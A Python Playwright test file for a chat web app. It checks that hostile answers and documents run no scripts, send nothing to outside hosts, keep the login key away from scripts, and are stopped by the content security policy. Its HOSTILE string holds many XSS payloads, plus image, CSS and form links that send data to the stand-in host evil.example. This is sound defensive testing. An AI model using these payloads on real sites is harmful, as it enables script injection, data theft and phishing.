"""Tests that hostile answers and documents run no code and send no requests."""

import asyncio
from pathlib import Path
from typing import Any

from playwright.async_api import Browser, expect

from tests.browser.browser_tab import Tab, tab
from tests.browser.conftest import Serve
from tests.serving import Puppet, ready, saying, until, within
from turnwire.core.log.events import SearchEvent, StatusEvent, ToolCallEvent, ToolResultEvent

ELSEWHERE = "https://evil.example/steal"
HOSTILE = f"""
<script>window.pwned = 1</script><img src=x onerror="window.pwned = 2">
<img src="{ELSEWHERE}?html"> ![secret]({ELSEWHERE}?markdown=secret) ![ref][r] <svg onload="window.pwned = 3"></svg>

[r]: {ELSEWHERE}?reference

[click](javascript:window.pwned=4) [data](data:text/html,<script>window.pwned=5</script>) [vb](vbscript:x)
<a href="javascript:window.pwned=6">html</a> <a href="&#106;avascript:window.pwned=7">encoded</a>
<iframe src="{ELSEWHERE}?frame"></iframe><object data="{ELSEWHERE}"></object><embed src="{ELSEWHERE}">
<link rel="stylesheet" href="{ELSEWHERE}"><style>body {{ background: url({ELSEWHERE}?css) }}</style>
<base href="{ELSEWHERE}"><meta http-equiv="refresh" content="0;url={ELSEWHERE}">
<form action="{ELSEWHERE}" id="form"><input name="key"><button id="evil">Log in</button></form>
<div style="position:fixed;inset:0;background:url({ELSEWHERE}?style)" id="composer">over all</div>
<video src="{ELSEWHERE}" poster="{ELSEWHERE}"></video><audio src="{ELSEWHERE}"></audio>
<math><mi><mglyph><style><img src=x onerror="window.pwned = 8"></style></mglyph></mi></math>
<details open ontoggle="window.pwned = 9">x</details><input autofocus onfocus="window.pwned = 10">

```html
<script>window.pwned = 11</script>
```

`<img src={ELSEWHERE}>` [honest](https://example.org/page) [www.bank.example](https://evil.example/)
"""


async def assert_harmless(page: Tab) -> None:
    assert page.failures == []
    assert await page.page.evaluate("window.pwned") is None
    assert page.foreign_urls == []
    for forbidden in ("script:not([src])", "iframe", "object", "embed", "form#form", "base", "svg[onload]", "video"):
        assert await page.page.locator(forbidden).count() == 0, forbidden
    attribute_query = "Array.from(document.querySelectorAll('*')).flatMap(node => Array.from(node.attributes))"
    assert await page.page.evaluate(f"{attribute_query}.filter(attribute => /^on/i.test(attribute.name)).length") == 0
    link_query = "Array.from(document.querySelectorAll('[href],[src]')).map(node => node.href ?? node.src)"
    addresses = await page.page.evaluate(link_query)
    assert [
        item for item in addresses if isinstance(item, str) and item.lower().startswith(("javascript", "vbs"))
    ] == []
    images = await page.page.evaluate("Array.from(document.images).map(node => node.src)")
    assert [item for item in images if not item.startswith((page.url, "data:image/"))] == []


async def test_hostile_answer_runs_no_code_and_sends_no_request(browser: Browser, serve: Serve, puppet: Puppet) -> None:
    async with serve() as server, tab(browser, server.url) as page:
        # The sanitizer parses the text in a detached document, to which some browsers apply the policy too.
        page.may_violate = True
        await page.ask("<img src=x onerror='window.pwned = 20'> <script>window.pwned = 21</script>")
        part = await puppet.part()
        part.say(StatusEvent(HOSTILE))
        part.say(SearchEvent("s1", "started", tool="<b>search</b>", query=HOSTILE))
        part.say(ToolCallEvent("c1", "<img src=x onerror=pwned=1>", {"html": HOSTILE}))
        part.say(ToolResultEvent("c1", "<img src=x onerror=pwned=1>", True, HOSTILE))
        # Split anywhere, also inside a tag.
        for start in range(0, len(HOSTILE), 37):
            part.say(HOSTILE[start : start + 37])
        await expect(page.answer).to_contain_text("honest")
        part.end()
        await page.ended()
        await page.part("steps").get_by_role("button").first.click()
        await page.part("step-tool").locator("summary").click()
        await assert_harmless(page)
        # A link shows its target, whatever its text claims, and sends no referrer.
        honest = page.answer.get_by_role("link", name="honest")
        await expect(honest).to_contain_text("example.org")
        await expect(honest).to_have_attribute("target", "_blank")
        assert {"noopener", "noreferrer"} <= set((await honest.get_attribute("rel") or "").split())
        await expect(page.answer.get_by_role("link", name="www.bank.example")).to_contain_text("evil.example")
        # Code is shown, not run, and the page still works.
        await expect(page.answer.locator("pre").first).to_contain_text("window.pwned = 11")
        await page.page.reload()
        await expect(page.answer).to_contain_text("honest")
        await assert_harmless(page)
        await page.page.goto(f"{server.url}/turns/{await page.turn_id()}")
        await expect(page.page.locator("main")).to_be_visible()
        await assert_harmless(page)


async def test_hostile_document_runs_no_code(browser: Browser, serve: Serve, tmp_path: Path) -> None:
    folder = tmp_path / "docs"
    folder.mkdir()
    text = f"# The <b>ferry</b>\n\nThe ferry to Juist leaves at noon from the pier.\n\n{HOSTILE}"
    (folder / "ferry.md").write_text(text)
    async with serve(docs=[folder]) as server, tab(browser, server.url) as page:
        await within(ready(server.turnwire))
        # The sanitizer parses the text in a detached document, to which some browsers apply the policy too.
        page.may_violate = True
        await page.ask("When does the ferry to Juist leave?")
        await page.ended()
        await page.answer.locator("[data-cite]").first.click()
        await expect(page.part("source").locator("mark").first).to_contain_text("ferry to Juist")
        await assert_harmless(page)


async def test_key_is_entered_once_and_unreadable_for_scripts(browser: Browser, serve: Serve) -> None:
    async with serve(saying("Hello, Anna.")) as server:
        key, text = await server.turnwire.keys.create("anna", ("read", "write", "approve"))
        async with tab(browser, server.url) as page:
            box = page.page.get_by_label("key", exact=False).first
            await box.fill("tw_wrong_key")
            await box.press("Enter")
            await expect(page.page.get_by_role("alert")).to_be_visible()
            await box.fill(text)
            await box.press("Enter")
            await page.ask("Who am I?")
            await expect(page.answer).to_have_text("Hello, Anna.")
            await page.page.reload()
            await expect(page.answer).to_have_text("Hello, Anna.")
            stored = await page.page.evaluate(
                "JSON.stringify([localStorage, sessionStorage, document.cookie, location.href, history.state])"
            )
            assert key.id not in stored
            assert text not in stored
            (cookie,) = [dict[str, Any](item) for item in await page.page.context.cookies()]
            assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
            assert text not in cookie["value"]
            # A revoked key needs a new login.
            await server.turnwire.keys.revoke(key.id)
            server.turnwire.streams.close_key(key.id)
            await page.page.reload()
            await expect(page.page.get_by_label("key", exact=False).first).to_be_visible()


async def test_content_security_policy_blocks_unsanitized_html(browser: Browser, serve: Serve) -> None:
    """Insert the hostile HTML without sanitizing, to test the policy alone."""
    arrived: list[bytes] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        # A browser may preconnect without sending a request.
        if request := await reader.readline():
            arrived.append(request)
        writer.close()

    async with await asyncio.start_server(answer, "127.0.0.1", 0) as elsewhere, serve(saying("Hello.")) as server:
        port = elsewhere.sockets[0].getsockname()[1]
        async with tab(browser, server.url) as page:
            page.may_violate = True
            hostile = HOSTILE.replace("https://evil.example", f"http://127.0.0.1:{port}").replace("<meta ", "<x-meta ")
            await page.page.evaluate("html => document.body.insertAdjacentHTML('beforeend', html)", hostile)
            fetching = "address => fetch(address).then(() => 'fetched', () => 'refused')"
            assert await page.page.evaluate(fetching, f"http://127.0.0.1:{port}/fetched") == "refused"
            await page.ask("Hello?")
            await expect(page.answer).to_have_text("Hello.")
            assert await page.page.evaluate("window.pwned") is None
            await page.page.evaluate("document.querySelector('#form').submit()")
            # It is the policy that stops them, and not that nothing is tried. A form is sent a moment later.
            stopped = {"connect-src", "form-action", "img-src"}
            await until(lambda: stopped <= {violation.directive for violation in page.violations})
            assert (await page.page.evaluate("location.href")).startswith(server.url)
            page.requests.clear()  # These include requests that the browser refused; none has arrived.
    assert arrived == []
